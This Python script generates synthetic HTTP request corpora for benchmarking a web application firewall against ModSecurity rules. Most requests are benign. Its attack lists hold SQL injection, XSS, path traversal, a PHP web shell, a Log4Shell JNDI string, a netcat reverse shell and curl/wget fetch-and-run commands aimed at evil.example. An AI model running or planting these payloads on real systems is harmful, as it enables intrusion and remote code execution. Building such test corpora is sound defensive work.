#!/usr/bin/env python3
"""Deterministic request corpus for benchmarks and ModSecurity comparisons.

Writes JSON lines in the `palisade eval` input format. The mix resembles an
API-heavy web application: browser GETs with query strings and cookies, JSON
and urlencoded POSTs, multipart uploads, plus a share of attacks from the
classes the CRS covers (SQLi, XSS, LFI, RCE, PHP, Java, protocol abuse).

Usage: generate.py [--count N] [--seed S] [--attack-share F] > corpus.jsonl
"""
import argparse
import base64
import json
import random

BROWSER = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
]
API = [
    ("User-Agent", "checkout-service/2.3.1 (+grpc-gateway)"),
    ("Accept", "application/json"),
]
WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel",
         "india", "juliet", "kilo", "lima", "mike", "november", "oscar", "papa"]
PATHS = ["/", "/index.html", "/products", "/products/42", "/api/v1/orders",
         "/api/v1/users/1007/profile", "/search", "/static/app.js", "/login",
         "/cart", "/checkout", "/reviews/5531", "/productpage", "/ratings/0"]

SQLI = [
    "1' OR '1'='1", "0 union select user,password from users--", "1; DROP TABLE users",
    "' or 1=1 limit 1 -- -", "1 AND SLEEP(5)", "admin'--", "1) UNION ALL SELECT NULL,NULL--",
    "0 div 1 union#foo*/*bar\r\nselect#foo\r\n1,2,current_user",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)", "\"><svg/onload=confirm(1)>", "<iframe src=//evil.example>",
]
LFI = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/proc/self/environ",
       "....//....//etc/hosts"]
RCE = ["; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://x.example/s.sh|sh)",
       "`id`", "; wget http://evil.example/x -O /tmp/x"]
PHP = ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php"]
JAVA = ["${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')"]
ATTACKS = SQLI + XSS + LFI + RCE + PHP + JAVA


def qs(pairs):
    from urllib.parse import quote
    return "&".join("%s=%s" % (quote(k, safe=""), quote(v, safe="")) for k, v in pairs)


def cookie(rng):
    return "; ".join([
        "session=%032x" % rng.getrandbits(128),
        "theme=%s" % rng.choice(["dark", "light"]),
        "_ga=GA1.2.%d.%d" % (rng.randrange(10**9), rng.randrange(10**9)),
    ])


def benign_value(rng):
    kind = rng.random()
    if kind < 0.4:
        return str(rng.randrange(100000))
    if kind < 0.8:
        return " ".join(rng.choice(WORDS) for _ in range(rng.randrange(1, 4)))
    return "%s@example.com" % rng.choice(WORDS)


def request(rng, i, attack):
    host = rng.choice(["shop.example.com", "productpage.bookinfo.svc.cluster.local",
                       "api.internal:8080"])
    shape = rng.random()
    params = [(rng.choice(WORDS), benign_value(rng)) for _ in range(rng.randrange(0, 5))]
    payload = rng.choice(ATTACKS) if attack else None
    headers = [("Host", host)]
    body = b""
    method = "GET"
    path = rng.choice(PATHS)
    if shape < 0.55:
        if payload:
            params.append((rng.choice(["id", "q", "name", "file", "cmd"]), payload))
        headers += BROWSER + [("Cookie", cookie(rng))]
        uri = path + ("?" + qs(params) if params else "")
    elif shape < 0.75:
        method = "POST"
        doc = {"order": {"id": rng.randrange(10**6), "items": [
            {"sku": "SKU-%05d" % rng.randrange(10**5), "qty": rng.randrange(1, 9)}
            for _ in range(rng.randrange(1, 4))]}, "note": benign_value(rng)}
        if payload:
            doc["note"] = payload
        body = json.dumps(doc).encode()
        headers += API + [("Content-Type", "application/json"),
                          ("Content-Length", str(len(body)))]
        uri = "/api/v1/orders"
    elif shape < 0.9:
        method = "POST"
        form = [("username", rng.choice(WORDS)), ("password", "S3cr3t-%d" % rng.randrange(10**4)),
                ("remember", "on")]
        if payload:
            form[0] = ("username", payload)
        body = qs(form).encode()
        headers += BROWSER + [("Content-Type", "application/x-www-form-urlencoded"),
                              ("Content-Length", str(len(body))), ("Cookie", cookie(rng))]
        uri = "/login"
    else:
        method = "POST"
        boundary = "----palisade%016x" % rng.getrandbits(64)
        comment = payload if payload else benign_value(rng)
        parts = [
            '--%s\r\nContent-Disposition: form-data; name="comment"\r\n\r\n%s\r\n' % (boundary, comment),
            '--%s\r\nContent-Disposition: form-data; name="file"; filename="report-%d.txt"\r\n'
            'Content-Type: text/plain\r\n\r\n%s\r\n' % (boundary, i, "quarterly numbers\n" * 20),
            '--%s--\r\n' % boundary,
        ]
        body = "".join(parts).encode()
        headers += BROWSER + [("Content-Type", "multipart/form-data; boundary=%s" % boundary),
                              ("Content-Length", str(len(body)))]
        uri = "/upload"
    req = {"id": i, "method": method, "uri": uri, "version": "HTTP/1.1",
           "headers": [list(h) for h in headers],
           "remote_addr": "10.%d.%d.%d:%d" % (rng.randrange(256), rng.randrange(256),
                                              rng.randrange(1, 255), rng.randrange(1024, 65535))}
    if body:
        req["body_b64"] = base64.b64encode(body).decode()
    req["attack"] = bool(attack)
    return req


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--count", type=int, default=2000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--attack-share", type=float, default=0.2)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    for i in range(args.count):
        attack = rng.random() < args.attack_share
        print(json.dumps(request(rng, i, attack)))


if __name__ == "__main__":
    main()
